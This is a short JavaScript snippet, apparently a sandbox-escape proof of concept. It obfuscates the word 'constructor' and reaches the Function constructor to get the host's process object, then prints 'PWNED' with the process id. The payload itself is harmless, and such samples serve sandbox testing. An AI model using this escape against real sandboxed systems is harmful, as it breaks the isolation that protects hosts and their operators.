const w = ['con', 'structor'].join('');
const t = { go: (f) => f[w] };
t.go({});
const fn = (x) => x;
const m = new Set([t]);
m.forEach((o) => { console.log('PWNED', o.go(fn)('return process')().pid);
});
